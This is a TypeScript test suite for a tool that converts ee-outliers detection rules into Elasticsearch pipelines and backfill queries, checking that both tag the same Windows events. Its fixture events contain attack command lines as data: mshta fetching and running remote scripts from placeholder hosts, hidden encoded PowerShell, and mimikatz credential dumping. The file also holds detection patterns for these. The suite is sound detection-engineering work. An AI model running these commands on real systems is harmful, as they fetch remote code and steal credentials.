/**
 * ee-outliers use cases on the real node: tagged live (ingest pipeline) and in backfill
 * (`_update_by_query`) with ee-outliers' field layout, whitelists applied on both sides, live and
 * query agreeing event for event, and — where analysed text makes them differ — the differences
 * shown exactly.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import type { CompileResult, Rule } from "../../src/ir/types.ts";
import { loadProfile } from "../../src/mapping/index.ts";
import { compileEeOutliersFiles, compileEeOutliersTexts } from "../../src/rules/eeoutliers/compile.ts";
import { buildPipeline } from "../../src/emit/painless/pipeline.ts";
import { ruleQuery } from "../../src/emit/dsl.ts";
import { runBackfill } from "../../src/cluster/history/backfill.ts";
import { planTargets, prepareTarget } from "../../src/cluster/history/backfill-target.ts";
import { cluster, dropIndices, ES_URL, testIndex } from "../helpers/es.ts";
import { liveVsQuery } from "../helpers/live-vs-query.ts";

const profile = loadProfile("winlogbeat");
const FIX = path.resolve(import.meta.dir, "../fixtures/ee-outliers");
const template = profile.indexTemplate();

function rulesOf(results: CompileResult[]): Rule[] {
  const bad = results.filter((r) => r.status !== "ok");
  if (bad.length) throw new Error(`unexpected failures: ${JSON.stringify(bad)}`);
  return results.flatMap((r) => (r.status === "ok" ? [r.rule] : []));
}

type Doc = { id: string; source: Record<string, unknown> };
let seq = 0;
/** A winlogbeat-shaped event (docs/contract.md) with the given event_data and top-level extras. */
function ev(
  id: string,
  data: Record<string, string>,
  more: { channel?: string; eventId?: number; host?: string; message?: string } = {},
): Doc {
  const eventId = more.eventId ?? 1;
  return {
    id,
    source: {
      "@timestamp": new Date(Date.UTC(2026, 10, 1, 0, 0, seq++)).toISOString(),
      winlog: {
        channel: more.channel ?? "Microsoft-Windows-Sysmon/Operational",
        event_id: eventId,
        provider_name: "Microsoft-Windows-Sysmon",
        computer_name: more.host ?? "HOST1",
        record_id: seq,
        event_data: data,
      },
      event: { code: String(eventId) },
      ...(more.message !== undefined ? { message: more.message } : {}),
    },
  };
}

async function createIndex(name: string, pipeline?: string) {
  const { client } = await cluster();
  const settings = { ...(template.settings ?? {}), ...(pipeline ? { "index.default_pipeline": pipeline } : {}) };
  await client.indices.create({ index: name, settings, mappings: template.mappings } as any);
}

async function bulk(index: string, docs: Doc[]) {
  const { client } = await cluster();
  const body: object[] = [];
  for (const d of docs) body.push({ index: { _index: index, _id: d.id } }, d.source);
  const res: any = await client.bulk({ body, refresh: true } as any);
  if (res.errors) throw new Error(JSON.stringify(res.items.filter((i: any) => i.index?.error).slice(0, 2)));
}

async function sources(index: string): Promise<Map<string, any>> {
  const { client } = await cluster();
  const res: any = await client.search({ index, size: 1000, query: { match_all: {} } } as any);
  return new Map(res.hits.hits.map((h: any) => [h._id, h._source]));
}

/** The tags part of a document (what tagging adds). */
function tagsOf(src: any) {
  return { tags: src.tags, outliers: src.outliers, threat: src.threat };
}

let stateDir: string;
const created: string[] = [];
const pipelines: string[] = [];
beforeAll(() => {
  stateDir = mkdtempSync(path.join(tmpdir(), "outliers-ee-state-"));
  process.env.OUTLIERS_STATE_DIR = stateDir;
});
afterAll(async () => {
  const { client } = await cluster();
  await dropIndices(...created);
  for (const p of pipelines) await client.ingest.deletePipeline({ id: p }).catch(() => {});
  rmSync(stateDir, { recursive: true, force: true });
}, 60_000);

/** Live (index with the pipeline) and backfill (plain index + runBackfill) of the same docs. */
async function liveAndBackfill(rules: Rule[], docs: Doc[], prefix: string) {
  const { client } = await cluster();
  const built = buildPipeline(rules);
  const pipe = testIndex(`${prefix}-pipe`);
  const live = testIndex(`${prefix}-live`);
  const plain = testIndex(`${prefix}-bf`);
  pipelines.push(pipe);
  created.push(live, plain);
  await client.ingest.putPipeline({ id: pipe, processors: built.processors, on_failure: built.on_failure } as any);
  await createIndex(live, pipe);
  await createIndex(plain);
  await bulk(live, docs);
  await bulk(plain, docs);
  const c = await cluster();
  const targets = await Promise.all(planTargets(rules, { index: [plain] }).map((t) => prepareTarget(c, t, {})));
  const results = await runBackfill(c, targets, { json: true });
  for (const r of results) expect(r.failures).toEqual([]);
  await client.indices.refresh({ index: plain });
  return { built, live: await sources(live), backfill: await sources(plain) };
}

const tagged = (m: Map<string, any>) =>
  [...m].flatMap(([id, s]) => ((s.outliers?.rule_id ?? []) as string[]).map((r) => `${id} ${r}`)).sort();

describe("NVISO's mshta use case", () => {
  const docs = [
    ev("m-vbscript", {
      Image: "C:\\Windows\\System32\\mshta.exe",
      CommandLine: 'mshta.exe vbscript:Close(Execute("GetObject(""script:https://x/a"")"))',
    }),
    ev("m-png", { Image: "C:\\Windows\\SysWOW64\\mshta.exe", CommandLine: "mshta.exe http://198.51.100.7/a.png" }),
    ev("m-hta", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta.exe C:\\Users\\bob\\a.hta" }),
    // the sigmac query is case-sensitive (wildcard on .keyword without case_insensitive)
    ev("m-upper", { Image: "C:\\WINDOWS\\SYSTEM32\\MSHTA.EXE", CommandLine: "MSHTA VBSCRIPT:x" }),
    // `*\\mshta.exe` needs the backslash right before mshta.exe
    ev("m-notmshta", { Image: "C:\\tools\\notmshta.exe", CommandLine: "notmshta a.jpg" }),
    ev("m-noimage", { CommandLine: "x.doc" }),
  ];

  test("tags the right events live and in backfill, with ee-outliers' field layout", async () => {
    const rules = rulesOf(compileEeOutliersFiles([path.join(FIX, "mshta.conf")], { profile }));
    expect(rules.map((r) => r.id)).toEqual(["simplequery_sigma_win_susp_mshta_execution"]);
    const { built, live, backfill } = await liveAndBackfill(rules, docs, "ee-mshta");
    expect(built.skipped).toEqual([]);
    const expected = [
      "m-png simplequery_sigma_win_susp_mshta_execution",
      "m-vbscript simplequery_sigma_win_susp_mshta_execution",
    ];
    expect(tagged(live)).toEqual(expected);
    expect(tagged(backfill)).toEqual(expected);
    const t = tagsOf(live.get("m-vbscript"));
    expect(t.tags).toEqual(["outlier"]);
    // ee-outliers' own layout: outlier_type split on commas
    expect(t.outliers.type).toEqual(["Sigma hit", "attack.defense_evasion", "attack.t1140"]);
    expect(t.outliers).toMatchObject({
      reason: ["Sigma hit - MSHTA Suspicious Execution 01"],
      summary: ["Sigma hit - MSHTA Suspicious Execution 01"],
      model_name: ["sigma_win_susp_mshta_execution"],
      model_type: ["simplequery"],
      rule_id: ["simplequery_sigma_win_susp_mshta_execution"],
      total_outliers: 1,
    });
    expect(t.threat).toEqual({ technique: { id: ["T1140"] } });
    // backfill writes exactly what live tagging wrote
    for (const id of ["m-vbscript", "m-png"]) expect(tagsOf(backfill.get(id))).toEqual(tagsOf(live.get(id)));
    for (const id of ["m-hta", "m-upper", "m-notmshta", "m-noimage"]) {
      expect(live.get(id).outliers).toBeUndefined();
      expect(backfill.get(id).outliers).toBeUndefined();
    }
  }, 60_000);
});

describe("through the CLI", () => {
  test("`outliers pipeline simulate mshta.conf --docs` tags what the pipeline tags", () => {
    const docs = [
      ev("a", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta vbscript:Close()" }),
      ev("b", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta C:\\x\\a.hta" }),
      ev("c", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta http://x/a.ZIP.hta" }),
    ];
    const file = path.join(stateDir, "docs.ndjson");
    writeFileSync(file, docs.map((d) => JSON.stringify(d.source)).join("\n") + "\n");
    const root = path.resolve(import.meta.dir, "../..");
    const run = spawnSync(
      path.join(root, "node_modules/.bin/bun"),
      ["src/cli.ts", "pipeline", "simulate", path.join(FIX, "mshta.conf"), "--docs", file, "--json", "--node", ES_URL],
      { cwd: root, encoding: "utf8" },
    );
    expect(run.status).toBe(0);
    const out = JSON.parse(run.stdout);
    // the sigmac query is case-sensitive: `.ZIP` is not `.zip`
    expect(out.docs.map((d: { line: number; matched: string[] }) => `${d.line} ${d.matched.join(",")}`)).toEqual([
      "1 simplequery_sigma_win_susp_mshta_execution",
      "2 ",
      "3 ",
    ]);
  }, 60_000);
});

describe("use cases of every construct", () => {
  const results = compileEeOutliersFiles(
    [path.join(FIX, "agreement.conf"), path.join(FIX, "agreement-whitelist.conf")],
    { profile },
  );
  const rules = rulesOf(results);
  const docs: Doc[] = [
    ev("cmd", { Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: "cmd /c dir" }),
    ev("cmd-whoami", { Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: "cmd /c WHOAMI /all" }),
    ev("cmd-whoami-lower", { Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: "cmd /c whoami" }),
    ev("sec-4624", {}, { channel: "Security", eventId: 4624 }),
    ev("sec-4700", {}, { channel: "Security", eventId: 4700 }),
    ev("sec-3999", {}, { channel: "Security", eventId: 3999 }),
    ev("alice", { User: "alice" }),
    ev("bob", { User: "CORP\\bob" }, { host: "HOST3" }),
    ev("alice-host2", { User: "alice" }, { host: "HOST2" }),
    ev("enc", { CommandLine: "powershell -enc SQBFAFgAKABOAGUAdwA=" }),
    ev("enc-long", { CommandLine: "powershell -encodedcommand SQBFAFgAKABOAGUAdwA= -w hidden" }),
    ev("enc-short", { CommandLine: "powershell -enc abc" }),
    ev("rundll-parent", { Image: "C:\\Windows\\System32\\rundll32.exe", ParentImage: "C:\\Windows\\explorer.exe" }),
    ev("rundll-orphan", { Image: "C:\\Windows\\System32\\rundll32.exe" }),
    ev("temp-4688", { Image: "C:\\WINDOWS\\Temp\\x.exe" }, { channel: "Security", eventId: 4688 }),
    ev("temp-2", { Image: "c:\\windows\\temp\\y.exe" }, { eventId: 2 }),
    ev("two-of-four", { CommandLine: "powershell -nop -w Hidden" }),
    ev("one-of-four", { CommandLine: "powershell -nop" }),
    ev("three-of-four", { CommandLine: "powershell -nop -e AAAA -window HIDDEN" }),
    ev("sysmon-5", { Image: "x" }, { eventId: 5 }),
    ev("sysmon-11", { Image: "x" }, { eventId: 11 }),
    ev("ps", { Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" }),
    ev("ps-admin", { Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" }, { host: "ADMIN-PC" }),
    ev("ps-trusted", { Image: "C:\\ProgramData\\trusted\\powershell.exe" }),
    ev("ps-backup-host9", { Image: "C:\\x\\powershell.exe", User: "svc_backup" }, { host: "HOST9" }),
    ev("ps-backup-host8", { Image: "C:\\x\\powershell.exe", User: "svc_backup" }, { host: "HOST8" }),
    ev("mimikatz", { Image: "C:\\x\\m.exe" }, { message: "invoke mimikatz now" }),
  ];

  test("all load; the one the live side cannot evaluate is reported with its reason", () => {
    expect(results.every((r) => r.status === "ok")).toBe(true);
    const bo = rules.find((r) => r.id === "simplequery_backfill_only")!;
    expect(bo.liveUnsupported).toBe(
      "es_dsl_filter: query.bool.must[0].match.message: match on analysed text field message matches tokens, not the whole value",
    );
    expect(bo.backfillOnlyQuery).toEqual({ bool: { must: [{ match: { message: "mimikatz" } }] } });
  });

  test("every use case's live result equals its query's result, event for event (the query as emitted and ee-outliers' own)", async () => {
    // (1) the emitted query (what backfill runs)
    const emitted = await liveVsQuery(rules, docs, { template, prefix: "ee-agree" });
    expect(emitted.excluded).toEqual([
      {
        id: "simplequery_backfill_only",
        reason: "pipeline: " + rules.find((r) => r.id === "simplequery_backfill_only")!.liveUnsupported,
      },
    ]);
    expect(emitted.errors).toEqual([]);
    expect(emitted.lost).toEqual([]);
    expect(emitted.diffs).toEqual([]);
    // (2) ee-outliers' original query, AND NOT the whitelist (as ee-outliers drops whitelisted outliers)
    const originals = rules
      .filter((r) => !r.liveUnsupported)
      .map((r) => ({ ...r, backfillOnlyQuery: originalQueryOf(r) }));
    const original = await liveVsQuery(originals, docs, { template, prefix: "ee-orig" });
    // One documented difference: `winlog.event_data.Image.keyword` where the index maps Image as
    // keyword. The sub-field does not exist, so the query as written matches nothing; outliers reads
    // `X.keyword` as "the whole value of X" (what sigmac meant for text+keyword mappings), live and in
    // the query it emits for backfill alike.
    expect(original.diffs).toEqual([
      { doc: "temp-4688", rule: "simplequery_dsl_terms_prefix", live: true, query: false },
    ]);
    expect(original.livePairs).toBe(emitted.livePairs);

    const pairs = [...emitted.liveTags]
      .flatMap(([d, ids]) => ids.map((r) => `${d} ${r.replace("simplequery_", "")}`))
      .sort();
    expect(pairs).toEqual(
      [
        "alice lucene_users",
        "bob lucene_users",
        "cmd lucene_cmd_not_whoami",
        // NOT *whoami* is case-sensitive on a keyword field: WHOAMI does not exclude
        "cmd-whoami lucene_cmd_not_whoami",
        "enc lucene_regexp",
        "enc-long lucene_regexp",
        "ps powershell_whitelisted",
        // svc_backup alone is not enough: the global entry needs HOST9 too
        "ps-backup-host8 powershell_whitelisted",
        "rundll-parent lucene_exists_phrase",
        "sec-4624 lucene_event_range",
        "temp-4688 lucene_event_range",
        // event id 2 is not in [1, 4688]
        "temp-4688 dsl_terms_prefix",
        "three-of-four dsl_two_of_four",
        "two-of-four dsl_two_of_four",
        // sysmon without parent and event id <= 10 (every sysmon doc but sysmon-11 and rundll-parent;
        // ps-backup-host9 is on the global whitelist: svc_backup on HOST9)
        ...docs
          .filter(
            (d) =>
              ![
                "sec-4624",
                "sec-4700",
                "sec-3999",
                "temp-4688",
                "sysmon-11",
                "rundll-parent",
                "ps-backup-host9",
              ].includes(d.id),
          )
          .map((d) => `${d.id} dsl_sysmon_no_parent`),
      ].sort(),
    );
  }, 120_000);

  test("whitelists: an event matching a use case and a whitelist entry is tagged neither live nor in backfill", async () => {
    const ps = rules.filter(
      (r) => r.id === "simplequery_powershell_whitelisted" || r.id === "simplequery_backfill_only",
    );
    const wlDocs = docs.filter((d) => d.id.startsWith("ps") || d.id === "mimikatz");
    const { live, backfill } = await liveAndBackfill(ps, wlDocs, "ee-wl");
    const expected = [
      "mimikatz simplequery_backfill_only",
      "ps simplequery_powershell_whitelisted",
      "ps-backup-host8 simplequery_powershell_whitelisted",
    ];
    // the backfill-only use case is tagged by backfill alone
    expect(tagged(live)).toEqual(expected.filter((p) => !p.startsWith("mimikatz")));
    expect(tagged(backfill)).toEqual(expected);
    // the query ee-outliers would run finds the whitelisted events; outliers tags none of them
    const { client } = await cluster();
    const plain = [...created].reverse().find((n) => n.includes("ee-wl-bf"))!;
    const rule = ps.find((r) => r.id === "simplequery_powershell_whitelisted")!;
    const hits: any = await client.search({
      index: plain,
      size: 100,
      _source: false,
      query: { query_string: { query: "winlog.event_data.Image:*\\\\powershell.exe" } },
    } as any);
    expect(hits.hits.hits.map((h: any) => h._id).sort()).toEqual([
      "ps",
      "ps-admin",
      "ps-backup-host8",
      "ps-backup-host9",
      "ps-trusted",
    ]);
    const q: any = await client.search({ index: plain, size: 100, _source: false, query: ruleQuery(rule) } as any);
    expect(q.hits.hits.map((h: any) => h._id).sort()).toEqual(["ps", "ps-backup-host8"]);
  }, 60_000);
});

/** The query ee-outliers runs for a use case (its es_query_filter / es_dsl_filter as written). */
function originalQueryOf(rule: Rule): unknown {
  const text = readFileSync(rule.source.path, "utf8");
  const section = text.split(/^\[/m).find((s) => s.startsWith(`${rule.source.section}]`))!;
  const qs = /^es_query_filter\s*=\s*(.*)$/m.exec(section);
  if (qs) return { query_string: { query: qs[1]!.trim() } };
  const dsl = /^es_dsl_filter\s*=\s*(.*)$/m.exec(section)!;
  return (JSON.parse(dsl[1]!) as { query: unknown }).query;
}

describe("analysed text fields and bare terms: where live matching differs from the query", () => {
  // message is `text` (with a keyword sub-field) in the winlogbeat template. The query matches
  // standard-analyser tokens; live matching follows the documented rule: case-insensitive
  // substring of the whole value (docs/ee-outliers.md). This test shows every difference.
  const file = `
[simplequery_text_term]
es_query_filter = message:mimikatz
outlier_type = t
outlier_reason = term
outlier_summary = term
[simplequery_text_phrase]
es_query_filter = message:"-W hidden"
outlier_type = t
outlier_reason = phrase
outlier_summary = phrase
[simplequery_bare_term]
es_query_filter = sekurlsa
outlier_type = t
outlier_reason = bare
outlier_summary = bare
`;
  const docs: Doc[] = [
    ev("t-token", {}, { message: "Invoke-Mimikatz ran" }),
    ev("t-upper", {}, { message: "MIMIKATZ" }),
    ev("t-dotted", {}, { message: "mimikatz.exe started" }), // one token "mimikatz.exe"
    ev("t-prefix", {}, { message: "mimikatzx" }),
    ev("p-exact", {}, { message: "powershell -w hidden -enc x" }),
    ev("p-slash", {}, { message: "powershell /W  hidden" }), // same tokens, other punctuation
    ev("p-joined", {}, { message: "w.hidden" }), // one token "w.hidden"
    ev("b-cmd", { CommandLine: "mimikatz sekurlsa::logonpasswords" }),
    ev("b-token", { CommandLine: "sekurlsa" }),
    ev("b-message", {}, { message: "ran sekurlsa now" }),
  ];

  test("the exact differences between live tagging and ee-outliers' query_string", async () => {
    const rules = rulesOf(compileEeOutliersTexts([{ path: "text.conf", text: file }], { profile }));
    // the live side against ee-outliers' own query
    const asWritten = rules.map((r) => {
      const q = /^es_query_filter = (.*)$/m.exec(file.split(`[${r.id}]`)[1]!)![1]!;
      return { ...r, backfillOnlyQuery: { query_string: { query: q } } };
    });
    const r = await liveVsQuery(asWritten, docs, { template, prefix: "ee-text" });
    expect(r.errors).toEqual([]);
    const diffs = r.diffs
      .map((d) => `${d.doc} ${d.rule.replace("simplequery_", "")} ${d.live ? "live-only" : "query-only"}`)
      .sort();
    expect(diffs).toEqual([
      // bare term: the query looks for the token in every field (keyword fields: whole value);
      // live, some keyword field's value contains the term
      "b-cmd bare_term live-only", // CommandLine "mimikatz sekurlsa::logonpasswords" ≠ "sekurlsa"
      // phrase: the query matches the tokens w, hidden in a row; live, the value contains "-W hidden"
      "p-slash text_phrase query-only", // "powershell /W  hidden": same tokens, other punctuation
      // term: the query needs the token "mimikatz"; live, the value contains "mimikatz"
      "t-dotted text_term live-only", // the standard analyser keeps "mimikatz.exe" as one token
      "t-prefix text_term live-only", // "mimikatzx"
    ]);
    // and where they agree
    const live = [...r.liveTags].flatMap(([d, ids]) => ids.map((x) => `${d} ${x.replace("simplequery_", "")}`)).sort();
    expect(live).toEqual(
      [
        "b-cmd bare_term",
        "b-message bare_term",
        "b-token bare_term",
        "p-exact text_phrase",
        "t-dotted text_term",
        "t-prefix text_term",
        "t-token text_term",
        "t-upper text_term",
      ].sort(),
    );
    // the emitted query (what backfill runs) agrees with live exactly
    const emitted = await liveVsQuery(rules, docs, { template, prefix: "ee-text2" });
    expect(emitted.diffs).toEqual([]);
  }, 60_000);
});

describe("ee-outliers' published examples", () => {
  test("the simplequery examples of its documentation load without error (statistical models reported unsupported)", () => {
    const results = compileEeOutliersFiles([path.join(FIX, "nviso-documentation-examples.conf")], { profile });
    expect(results.map((r) => `${r.status} ${r.status === "ok" ? r.rule.id : r.id}`)).toEqual([
      "ok simplequery_powershell_execution_hidden_window",
      "ok simplequery_suricata_network_trojan_detected",
      "ok simplequery_highlight_example",
      "ok simplequery_dummy_test",
      "unsupported metrics_cmdline_containing_url",
      "unsupported terms_rarely_seen_outbound_connections",
    ]);
    const suricata = results[1]!;
    expect(suricata.status === "ok" && suricata.rule.tagsOut.extra).toEqual({ test_arbitrary_key: "arbitrary_value" });
  });
});
